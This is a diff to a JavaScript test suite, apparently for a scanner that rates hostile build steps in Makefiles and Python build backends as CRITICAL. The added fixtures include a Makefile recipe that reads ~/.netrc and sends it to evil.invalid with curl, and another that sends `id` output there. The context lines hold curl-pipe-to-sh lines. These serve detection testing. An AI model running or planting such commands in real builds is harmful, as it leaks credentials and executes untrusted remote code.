@@ -97,6 +97,18 @@ test.each([
     `G = curl https://evil.invalid\n${RECIPE('$(G)/x | sh')}`,
     'CRITICAL',
   ],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
+    `D != cat ~/.netrc\n${RECIPE('curl https://evil.invalid/$(D)')}`,
+    'CRITICAL',
+  ],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
+    `A := $(shell id)\nB := $(A)\n${RECIPE('curl https://evil.invalid/$(B)')}`,
+    'CRITICAL',
+  ],
   ['Makefile', '["make", "-C", "native"]', `# ${FETCH.replace('\\\n', '')}\nall:\n\ttrue\n`, undefined],
   [
     'package.json',
@@ -207,6 +219,7 @@ test('packages above the module of a back end are imported with it', () => {
   const files = {
     'tools/own/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
     'tools/own/core.py': 'class Api: pass',
+    'pkg/__init__.py': '',
     'tools/other/__init__.py': 'import os\nos.system("curl https://evil.invalid/x | sh")',
   };
   const told = { buildBackend: 'own.core:Api', backendPath: ['tools'] };
